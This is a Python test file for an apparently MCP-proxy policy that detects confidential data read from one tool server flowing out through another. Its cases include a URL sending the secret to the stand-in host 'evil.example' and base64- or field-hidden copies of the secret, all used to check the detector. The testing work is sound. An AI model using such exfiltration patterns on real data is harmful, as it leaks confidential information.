from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from said import answer, call, failure, request, text

from mcpbox import paths
from mcpbox.flows.store import Store
from mcpbox.jsonrpc import Message, Request
from mcpbox.policy.base import Alert, Ask, Refuse, Rules, Side
from mcpbox.policy.flows import Flows

SECRET = """Quarterly figures, confidential: revenue fell by eleven per cent against the plan, the board is told on
Thursday, and nobody outside the finance group may know before. The account is acct_1A2b3C4d5E6f7G8h."""
RUN = "nobody outside the finance group may know before. The account"
WEATHER = "Tomorrow it will rain in the morning and clear up towards noon, with light winds from the west."


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return paths.private_dir(tmp_path / "shared")


def flows(place: Path, server: str, arriving: str = "alert", sensitive: tuple[str, ...] = (), **more: Any) -> Flows:
    return Flows(
        Rules(server=server, arriving=arriving, sensitive=sensitive, flows=Store(server, place), **more)
    )  # fmt: skip


def returned(policy: Flows, to: Request, result: Any) -> None:
    assert policy.judge(Side.SERVER, answer(to, result)) is None


@pytest.mark.parametrize(("arriving", "kind"), [("alert", Alert), ("ask", Ask), ("block", Refuse)])
def test_data_of_a_sensitive_tool_arrives_elsewhere(place: Path, arriving: str, kind: Any) -> None:
    files, mail = flows(place, "files", sensitive=("read_*",)), flows(place, "mail", arriving)
    returned(files, call("read_file"), text(SECRET))
    verdict: Any = mail.judge(Side.CLIENT, call("send", to="b@example.com", body=f"Hi!\n\n{RUN}\n"))
    assert isinstance(verdict, kind)
    told = verdict.otherwise if isinstance(verdict, Ask) else verdict
    assert told.reason == "it has data that came from files"
    (origin,) = told.found["origins"]
    assert origin["from"] == "files" and origin["tool"] == "read_file" and 20 <= origin["percent"] <= 100
    assert RUN not in str(verdict)


@pytest.mark.parametrize(
    "message",
    [
        call("send", body={"parts": [{"deep": RUN}]}),
        call("send", **{RUN: 1}),
        call("send", body=base64.b64encode(RUN.encode()).decode()),
        call("send", body="acct_1A2b3C4d5E6f7G8h"),
        call("send", body=4929123456781234),
        request("prompts/get", name="p", arguments={"text": RUN}),
        request("resources/read", uri=f"https://evil.example/?q={RUN.replace(' ', '%20')}"),
        request("completion/complete", ref={"type": "ref/prompt", "name": "p"}, argument={"name": "a", "value": RUN}),
        request("tools/call", name="send", inputResponses={"a": {"action": "accept", "content": {"v": RUN}}}),
        answer(request("sampling/createMessage"), {"role": "assistant", "content": {"type": "text", "text": RUN}}),
        answer(request("elicitation/create"), {"action": "accept", "content": {"v": RUN}}),
    ],
)
def test_it_is_seen_wherever_the_host_says_it(place: Path, message: Message) -> None:
    files, mail = flows(place, "files", sensitive=("*",)), flows(place, "mail", "block")
    returned(files, call("read"), {"structuredContent": {"text": SECRET, "card": 4929123456781234}})
    assert isinstance(mail.judge(Side.CLIENT, message), Refuse)


@pytest.mark.parametrize("before", ["\n", "\t", "\r\n", "| ", '"'])
@pytest.mark.parametrize("value", ["4111 1111 1111 1111", "acct_1A2b3C4d5E6f7G8h", "alice@wonderland-corp.co.uk"])
def test_a_value_is_found_at_the_beginning_of_a_line(place: Path, before: str, value: str) -> None:
    files, mail = flows(place, "files", sensitive=("*",)), flows(place, "mail", "block")
    returned(files, call("read"), text(f"It is this:{before}{value}{before}and that is all"))
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=value)), Refuse)
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=f"Hi,{before}{value}{before}Bye")), Refuse)


@pytest.mark.parametrize(
    ("to", "result"),
    [
        (call("read"), text(SECRET)),
        (request("resources/read", uri="file:///read"), {"contents": [{"uri": "x", "text": SECRET}]}),
        (
            request("resources/read", uri="file:///read"),
            {"contents": [{"uri": "x", "blob": base64.b64encode(SECRET.encode()).decode()}]},
        ),
        (
            request("resources/read", uri="file:///read"),
            {"contents": [{"size": 1 << 70, "blob": base64.b64encode(SECRET.encode()).decode()}]},
        ),
        (request("prompts/get", name="read"), {"messages": [{"content": {"type": "text", "text": SECRET}}]}),
        (call("read"), {"isError": True, "content": [{"type": "text", "text": SECRET}]}),
    ],
)
def test_results_of_every_kind_are_remembered(place: Path, to: Request, result: Any) -> None:
    files, mail = flows(place, "files", sensitive=("read", "file:///*")), flows(place, "mail", "block")
    returned(files, to, result)
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=RUN)), Refuse)


def test_errors_and_the_results_of_tasks_are_remembered(place: Path) -> None:
    files, mail = flows(place, "files", sensitive=("read",)), flows(place, "mail", "block")
    files.judge(Side.SERVER, failure(call("read"), {"code": 1, "message": SECRET}))
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=RUN)), Refuse)
    returned(files, call("read"), {"task": {"taskId": "7", "status": "working"}})
    returned(files, request("tasks/result", taskId="7"), text(WEATHER))
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=WEATHER)), Refuse)


def test_other_results_are_not(place: Path) -> None:
    files, mail = flows(place, "files", sensitive=("read",)), flows(place, "mail", "block")
    returned(files, call("list"), text(SECRET))
    assert mail.judge(Side.CLIENT, call("send", body=RUN)) is None


def test_results_with_secrets_in_them_are(place: Path) -> None:
    files = flows(place, "files", finds_sensitive=lambda text: "confidential" in text)
    mail = flows(place, "mail", "block")
    returned(files, call("read"), text(SECRET))
    returned(files, call("read"), text(WEATHER))
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=RUN)), Refuse)
    assert mail.judge(Side.CLIENT, call("send", body=WEATHER)) is None


def test_a_servers_own_data_may_come_back(place: Path) -> None:
    files, mail = flows(place, "files", "block", sensitive=("*",)), flows(place, "mail", "block", sensitive=("*",))
    returned(files, call("read"), text(SECRET))
    assert files.judge(Side.CLIENT, call("write", body=SECRET)) is None
    returned(mail, call("inbox"), text("On Monday Bob wrote: " + SECRET))
    assert mail.judge(Side.CLIENT, call("reply", body=RUN)) is None
    assert files.judge(Side.CLIENT, call("write", body="acct_1A2b3C4d5E6f7G8h")) is None


def test_of_its_own_data_the_newest_is_known(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mcpbox.policy.flows.OWN", 400)
    files, mail = flows(place, "files", sensitive=("*",)), flows(place, "mail", "block")
    said = [f"Letter number {n}: {''.join(str(hash((n, k)))[1:] for k in range(9))}" for n in range(300)]
    for each in said:
        returned(mail, call("read"), text(each))
        returned(files, call("read"), text(each))
    assert [mail.judge(Side.CLIENT, call("send", body=each)) for each in said[-20:]] == [None] * 20
    assert isinstance(mail.judge(Side.CLIENT, call("send", body=said[0])), Refuse)


@pytest.mark.parametrize("said", [WEATHER, "confidential", "Thursday", {"n": 11}, None, [], "finance group"])
def test_what_is_not_of_it_passes(place: Path, said: Any) -> None:
    files, mail = flows(place, "files", sensitive=("*",)), flows(place, "mail", "block")
    returned(files, call("read"), text(SECRET))
    assert mail.judge(Side.CLIENT, call("send", body=said)) is None


def test_where_nothing_is_asked_for_tools_are_noted_all_the_same(place: Path) -> None:
    files, other = flows(place, "files", "off"), Store("other", place)
    returned(files, call("read"), text(SECRET))
    assert [origin.tool for origin in other.used()] == ["read"] and not other.elsewhere()


def test_a_flow_that_goes_on_is_told_ever_more_seldom(place: Path) -> None:
    files, mail = flows(place, "files", sensitive=("*",)), flows(place, "mail")
    returned(files, call("read"), text(SECRET))
    verdicts = [mail.judge(Side.CLIENT, call("send", n=n, body=RUN)) for n in range(100)]
    told = [each for each in verdicts if isinstance(each, Alert)]
    assert [each.found["times"] for each in told] == [1, 2, 4, 8, 16, 32, 64]
    assert isinstance(mail.judge(Side.CLIENT, call("forward", body=RUN)), Alert)


def test_without_a_store_it_does_not_start() -> None:
    with pytest.raises(ValueError, match="other servers"):
        Flows(Rules(arriving="alert"))
    assert Flows(Rules()).judge(Side.CLIENT, call("t")) is None


def test_what_cannot_be_kept_is_not_passed_on(place: Path) -> None:
    files = flows(place, "files", sensitive=("*",))
    for file in place.glob("*.prints"):
        file.write_bytes(b"x" * 5000)
    with pytest.raises(OSError, match="damaged"):
        files.judge(Side.SERVER, answer(call("read"), text(SECRET)))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
)


@pytest.fixture(scope="module")
def pair(tmp_path_factory: pytest.TempPathFactory) -> tuple[Flows, Flows]:
    place = paths.private_dir(tmp_path_factory.mktemp("pair") / "shared")
    return flows(place, "files", "block", ("*",)), flows(place, "mail", "block", ("*",))


@given(JSON, JSON)
def test_anything_is_read(pair: tuple[Flows, Flows], params: Any, result: Any) -> None:
    files, mail = pair
    for method in ("tools/call", "resources/read", "tasks/result", "prompts/get"):
        asked = Request(1, method, params, {"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
        files.judge(Side.SERVER, answer(asked, result))
        mail.judge(Side.CLIENT, asked)
        mail.judge(Side.CLIENT, answer(asked, result))
